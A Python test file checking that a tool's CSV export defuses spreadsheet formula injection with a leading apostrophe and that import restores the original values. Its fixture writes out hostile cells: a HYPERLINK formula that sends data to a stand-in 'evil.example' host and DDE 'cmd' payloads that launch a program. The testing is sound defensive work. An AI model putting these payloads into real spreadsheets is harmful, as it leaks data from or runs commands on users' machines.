"""CSV export neutralises formula cells (OWASP: a leading apostrophe) and import takes it back off, losslessly."""

from __future__ import annotations

import csv
import itertools
import random
from pathlib import Path

from modelpick_tui.db import open_db
from modelpick_tui.evals.exchange import csv_cell, csv_field, export, import_file
from modelpick_tui.evals.stores.labels import ReviewStore
from modelpick_tui.evals.stores.traces import TraceStore
from modelpick_tui.evals.traces import Trace

TRIGGERS = "=+-@\t\r"
ALPHABET = ["'", *TRIGGERS, "a", " ", "\n"]


def _strings() -> list[str]:
    """Every string of up to 4 characters over the characters the rule cares about, then 3000 longer random ones."""
    every = ["".join(chars) for n in range(5) for chars in itertools.product(ALPHABET, repeat=n)]
    rnd = random.Random(11)
    pool = [*ALPHABET, "é", "\x1b", "\u202e", '"', ",", "0", "9"]
    longer = ["".join(rnd.choice(pool) for _ in range(rnd.randint(5, 40))) for _ in range(3000)]
    return every + longer


def test_the_rule_is_a_bijection_and_no_cell_starts_like_a_formula() -> None:
    strings = _strings()
    cells = [csv_cell(s) for s in strings]
    for text, cell in zip(strings, cells, strict=True):
        assert csv_field(cell) == text, (text, cell)
        assert not cell.startswith(tuple(TRIGGERS)), (text, cell)
        # Untouched unless it (past its apostrophes) starts like a formula; then exactly one apostrophe more.
        assert cell == text or cell == "'" + text
    assert len(set(cells)) == len(strings)  # injective: two fields never export alike


def test_export_neutralises_formulas_and_import_restores_them(tmp_path: Path) -> None:
    db = open_db(None)
    traces, review = TraceStore(db), ReviewStore(db)
    hostile = {
        "prompt": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "output": "+cmd|' /C calc'!A0",
        "model": "@SUM(1+1)*cmd|' /C calc'!A0",
        "system": "-2+3+cmd|' /C calc'!A0",
        "reference": "\t=1+1",
        "endpoint": "\r=1+1",
    }
    traces.add(Trace(run_id="'=run", id="'-id", created_at="2026-01-01T00:00:00.000Z", **hostile))
    review.label("'-id", "fail", "=note()", ["@tag"])
    path = tmp_path / "shared.csv"
    assert export(review, path, "csv") == 1

    with path.open(encoding="utf-8", newline="") as fh:
        row = next(csv.DictReader(fh))
    for column in (*hostile, "note", "tags", "run", "id"):
        assert row[column].startswith("'"), (column, row[column])
        assert not row[column].startswith(tuple(TRIGGERS))
    assert row["run"] == "''=run" and row["id"] == "''-id" and row["prompt"] == "'" + hostile["prompt"]

    other = ReviewStore(open_db(None))
    report = import_file(other, path)
    assert (report.traces, report.labels, report.errors) == (1, 1, [])
    back = other.traces.get("'-id")
    assert back is not None and back.run_id == "'=run"
    assert {k: getattr(back, k) for k in hostile} == hostile
    label = other.latest("'-id")
    assert label is not None and (label.note, label.tags) == ("=note()", ["@tag"])
